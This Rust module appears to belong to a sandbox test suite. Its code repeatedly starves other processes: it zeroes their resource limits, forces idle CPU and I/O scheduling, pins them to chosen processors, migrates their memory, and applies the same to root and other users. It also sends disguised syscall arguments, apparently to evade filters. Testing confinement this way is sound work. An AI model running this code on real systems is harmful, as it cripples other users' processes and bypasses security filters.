//! Attacks by calls that change another process: limits, scheduling, priorities, processors,
//! memory.

use crate::Reach;
use crate::sys::{at, call, disguised, number, rest};

/// struct sched_attr (sched_setattr(2)), 48 bytes: SCHED_IDLE, nice 19.
#[repr(C)]
struct Attributes {
    size: u32,
    policy: u32,
    flags: u64,
    nice: i32,
    priority: u32,
    times: [u64; 3],
}

const IOPRIO_PROCESS: i32 = 1;
const IOPRIO_GROUP: i32 = 2;
const IOPRIO_USER: i32 = 3;
/// The idle I/O scheduling class.
const IOPRIO_IDLE: i32 = 3 << 13;

pub fn turn(reach: Reach) -> ! {
    loop {
        for pid in reach.targets() {
            for as_argument in [number(pid), disguised(pid)] {
                of_process(as_argument);
            }
        }
        if reach.is_all() {
            of_everybody();
        }
        rest(200);
    }
}

fn of_process(pid: u64) {
    let none = [0u64, 0];
    let parameter = 0i32;
    let idle = Attributes { size: 48, policy: 5, flags: 0, nice: 19, priority: 0, times: [0; 3] };
    let processor = [1u64; 16];
    for resource in 0..16 {
        call(libc::SYS_prlimit64, [pid, resource, at(&none), 0, 0, 0]);
    }
    call(libc::SYS_setpriority, [number(libc::PRIO_PROCESS as i32), pid, 19, 0, 0, 0]);
    call(libc::SYS_setpriority, [number(libc::PRIO_PGRP as i32), pid, 19, 0, 0, 0]);
    call(libc::SYS_ioprio_set, [number(IOPRIO_PROCESS), pid, number(IOPRIO_IDLE), 0, 0, 0]);
    call(libc::SYS_ioprio_set, [number(IOPRIO_GROUP), pid, number(IOPRIO_IDLE), 0, 0, 0]);
    // SCHED_BATCH first: a process with SCHED_IDLE cannot change to another policy.
    call(libc::SYS_sched_setscheduler, [pid, number(libc::SCHED_BATCH), at(&parameter), 0, 0, 0]);
    call(libc::SYS_sched_setparam, [pid, at(&parameter), 0, 0, 0, 0]);
    call(libc::SYS_sched_setscheduler, [pid, number(libc::SCHED_IDLE), at(&parameter), 0, 0, 0]);
    call(libc::SYS_sched_setattr, [pid, at(&idle), 0, 0, 0, 0]);
    call(
        libc::SYS_sched_setaffinity,
        [pid, size_of_val(&processor) as u64, at(&processor), 0, 0, 0],
    );
    let nodes = 1u64;
    call(libc::SYS_migrate_pages, [pid, 64, at(&nodes), at(&nodes), 0, 0]);
    call(libc::SYS_move_pages, [pid, 0, 0, 0, 0, 0]);
    call(libc::SYS_setpgid, [pid, 0, 0, 0, 0, 0]);
}

/// Changes all processes of this user at once, with the forms of the calls that name no process.
fn of_everybody() {
    for user in [0, number(-1), 1000, disguised(0)] {
        for which in [number(libc::PRIO_USER as i32), disguised(libc::PRIO_USER as i32)] {
            call(libc::SYS_setpriority, [which, user, 19, 0, 0, 0]);
        }
        for which in [number(IOPRIO_USER), disguised(IOPRIO_USER)] {
            call(libc::SYS_ioprio_set, [which, user, number(IOPRIO_IDLE), 0, 0, 0]);
        }
    }
    call(libc::SYS_setpriority, [number(libc::PRIO_PGRP as i32), 0, 19, 0, 0, 0]);
}
